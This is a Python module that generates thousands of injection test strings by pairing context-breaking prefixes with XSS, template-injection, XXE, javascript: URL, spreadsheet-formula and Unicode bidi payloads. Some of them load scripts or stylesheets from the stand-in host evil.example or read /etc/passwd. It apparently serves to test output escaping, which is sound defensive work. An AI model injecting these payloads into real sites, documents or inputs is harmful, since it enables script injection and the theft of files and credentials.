"""Texts that attack whoever shows them: thousands, put together from what breaks out and what is then done."""

from itertools import product

# What ends the place where a value stands.
OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "}}", "`", "</bdi></p>", "\\")
DONE = (
    "<script>pwn()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwn()>",
    "<img src=//evil.example/pixel>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><a xlink:href='javascript:pwn()'><text>x</text></a></svg>",
    "<details open ontoggle=pwn()>",
    "<iframe src='javascript:pwn()'></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<body onload=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus>x</button></form>",
    "<object data=//evil.example/x></object>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    '{"@id":"</script><script>pwn()</script>"}',
    "{% load x %}{{ request.user.password }}",
    "${pwn()}#{pwn()}<%= pwn() %>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<![CDATA[<script>pwn()</script>]]>",
)
IN_ATTRIBUTES = (
    '" onmouseover="pwn()" x="', "' onfocus='pwn()' autofocus='", '" style="background:url(//evil.example/x)" x="',
    '" srcset="//evil.example/x 1x" x="', "x onerror=pwn()", '" autofocus onfocus="pwn()',
)  # fmt: skip
ADDRESSES = (
    "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "\x01javascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()", "//evil.example/", "https://evil.example/\"onclick=pwn()", "https:evil.example", "file:///etc/passwd",
)  # fmt: skip
SHEETS = ('=HYPERLINK("http://evil.example")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "|calc")
TURNED = (
    "\u202eabc\u202c",
    "\u2066abc",
    "\u200fabc\u200e",
    "\u061cabc",
    "abc\u2069\u2069",
    "a\u0301" * 30,
    "\u200b\ufeff\u00ad",
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 32), *range(127, 160), 0xFFFE, 0xFFFF, 0xFDD0, 0x2028, 0x2029))


def payloads() -> list[str]:
    """All of them, no two alike; none holds a NUL, which no column takes."""
    made = [f"{out}{done}" for out, done in product(OUT, DONE)]
    made += [f"{out}{done}".swapcase() for out, done in product(OUT, DONE)]
    made += [f"{turned}{done}{turned}" for turned, done in product(TURNED, DONE)]
    made += [f"{done}{control}" for control, done in product(CONTROLS, DONE)]
    made += [f"{out}{said}" for out, said in product(OUT, (*IN_ATTRIBUTES, *ADDRESSES, *SHEETS, *CONTROLS))]
    return list(dict.fromkeys(made))
